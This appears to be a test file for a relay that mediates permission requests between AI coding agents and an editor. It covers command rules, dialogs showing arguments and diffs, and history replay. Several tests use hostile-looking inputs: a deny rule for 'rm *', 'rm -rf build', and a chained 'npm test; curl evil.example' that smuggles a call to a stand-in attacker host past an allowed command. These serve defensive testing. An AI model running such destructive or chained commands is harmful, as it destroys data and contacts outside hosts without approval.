/** What hurt people with real agents and editors: each case was seen with one of them, and is played here by an agent of ours. */
import { describe, expect, test } from 'vitest';
import type { JsonObject } from '../../../../src/model/schema.ts';
import { openEditor } from '../../../support/acp/client.ts';
import { CWD, OPTIONS, openStage, picks, type Stage, text, update } from '../../../support/acp/relay.ts';

const END = { stopReason: 'end_turn' };
const init = { agentInfo: { name: 'gemini-cli', version: '0.61.0' } };

/** The agent asks about this call, the editor's person says yes to whatever is asked there; gives the option the agent got. */
async function answerTo(stage: Stage, toolCall: object): Promise<unknown> {
  const answers: unknown[] = [];
  stage.agent.on('session/prompt', async () => {
    const asked = await stage.agent.ask('session/request_permission', { sessionId: 's1', toolCall, options: OPTIONS });
    answers.push((asked.result?.outcome as JsonObject | undefined)?.optionId ?? asked.error);
    return END;
  });
  await stage.prompt();
  return answers[0];
}

const asked = ({ editor }: Stage) => editor.frames.filter(({ method }) => method === 'session/request_permission');

describe('an agent that gives a command only as the title of its question', () => {
  const RULES = `
    - { id: tests, when: { command: "npm test" }, then: allow, say: tests may run }
    - { id: no-removal, when: { command: "rm *" }, then: block, say: nothing is removed }`;
  const titled = (title: string) => ({ toolCallId: 'run_shell_command-1', status: 'pending', title, kind: 'execute' });

  test('has it decided by rules about commands, without what it says beside the command', async () => {
    const stage = await openStage({ rules: RULES });
    await stage.greeted({ init });
    const where = `[current working directory ${CWD}] (Does it)`;
    expect(await answerTo(stage, titled(`npm test ${where}`))).toBe('once');
    expect(await answerTo(stage, titled(`rm -rf build ${where}`))).toMatchObject({
      message: 'Refused by rule no-removal: nothing is removed',
    });
    expect(asked(stage)).toEqual([]);
    // One command that is allowed covers none beside it.
    stage.editor.on('session/request_permission', picks('reject_once'));
    expect(await answerTo(stage, titled(`npm test; curl evil.example ${where}`))).not.toBe('once');
    expect(asked(stage)).toHaveLength(1);
  });

  test('of any other agent a title restricts and allows nothing', async () => {
    const stage = await openStage({ rules: RULES });
    await stage.greeted({ init: { agentInfo: { name: 'another', version: '1' } } });
    stage.editor.on('session/request_permission', picks('reject_once'));
    expect(await answerTo(stage, titled('npm test'))).toBe('no');
    expect(asked(stage)).toHaveLength(1);
    expect(await answerTo(stage, titled('rm -rf build'))).toBe('no');
    expect(asked(stage)).toHaveLength(1);
  });
});

describe('a dialog in the editor', () => {
  const shownIn = (stage: Stage) => asked(stage)[0]?.params?.toolCall as JsonObject;

  test('has the arguments of a call, in the text and as members', async () => {
    const stage = await openStage();
    await stage.greeted();
    stage.editor.on('session/request_permission', picks('allow_once'));
    const rawInput = { to: 'everyone@example.org', subject: 'the plan' };
    expect(await answerTo(stage, { toolCallId: 'c', title: 'Send', kind: 'other', rawInput })).toBe('once');
    const call = shownIn(stage);
    expect(call.rawInput).toEqual(rawInput);
    expect(JSON.stringify(call.content)).toContain('everyone@example.org');
    expect(JSON.stringify(call.content)).toContain('the plan');
  });

  test('has the diff of a write that goes through the editor', async () => {
    const stage = await openStage();
    await stage.greeted();
    stage.editor.on('session/request_permission', picks('reject_once'));
    stage.agent.on('session/prompt', async () => {
      const write = { sessionId: 's1', path: `${CWD}/a.txt`, content: 'new words\n' };
      await stage.agent.ask('fs/write_text_file', write);
      return END;
    });
    await stage.prompt();
    const call = shownIn(stage);
    expect(call.rawInput).toEqual({ path: `${CWD}/a.txt`, content: 'new words\n' });
    expect(call.content).toContainEqual({
      type: 'diff',
      path: `${CWD}/a.txt`,
      oldText: null,
      newText: 'new words\n',
    });
  });

  test('has the diff of an edit whose agent gives only both texts as arguments', async () => {
    const stage = await openStage();
    await stage.greeted();
    stage.editor.on('session/request_permission', picks('reject_once'));
    const rawInput = { file_path: `${CWD}/a.txt`, old_string: 'old words', new_string: 'new words' };
    await answerTo(stage, { toolCallId: 'e', title: 'Edit a.txt', kind: 'edit', rawInput });
    const shown = JSON.stringify(shownIn(stage).content);
    expect(shown).toContain('old words');
    expect(shown).toContain('new words');
  });
});

test('the replayed history has the questions and their answers, in their place', async () => {
  const stage = await openStage();
  await stage.greeted();
  stage.editor.on('session/request_permission', picks('reject_once'));
  stage.agent.on('session/prompt', async () => {
    stage.agent.notify('session/update', text('May I?'));
    const toolCall = { toolCallId: 'c1', title: 'Send', kind: 'other', rawInput: { to: 'bo' } };
    stage.agent.notify('session/update', update('tool_call', { ...toolCall, status: 'pending' }));
    await stage.agent.ask('session/request_permission', { sessionId: 's1', toolCall, options: OPTIONS });
    stage.agent.notify('session/update', update('tool_call_update', { toolCallId: 'c1', status: 'failed' }));
    stage.agent.notify('session/update', update('agent_message_chunk', { content: { type: 'text', text: 'Pity.' } }));
    return END;
  });
  await stage.prompt('send it');
  const second = await openEditor(stage.home);
  const [{ sessionId }] = (await second.call('session/list', { cwd: CWD })).sessions;
  await second.call('session/load', { sessionId, cwd: CWD, mcpServers: [] });
  const shown = second.updates().map(({ sessionUpdate, title, status, content }) => ({
    sessionUpdate,
    title,
    status,
    text: JSON.stringify(content ?? ''),
  }));
  const at = (wanted: string) => shown.findIndex((each) => JSON.stringify(each).includes(wanted));
  expect(at('May I?')).toBeGreaterThan(at('send it'));
  const answer = shown.findIndex(({ text: words }) => words.includes('said no in the editor'));
  expect(answer).toBeGreaterThan(at('May I?'));
  expect(at('Pity.')).toBeGreaterThan(answer);
});

test('what an agent prints between its frames reaches no editor, and its turn goes on', async () => {
  const stage = await openStage({
    early: 'Loading plugins...\n{"jsonrpc":"2.0","method":"_vendor/early","params":{}}\n',
  });
  await stage.greeted();
  stage.agent.on('session/prompt', () => {
    stage.agent.raw('DeprecationWarning: punycode\n');
    stage.agent.notify('session/update', text('words'));
    stage.agent.raw('    at Object.<anonymous> (index.js:1)\n');
    return END;
  });
  expect((await stage.prompt()).result).toMatchObject(END);
  expect(stage.editor.lines.filter((line) => !line.startsWith('{"jsonrpc":"2.0"'))).toEqual([]);
  expect(stage.editor.lines.join('')).not.toMatch(/Loading plugins|Deprecation|anonymous/);
});
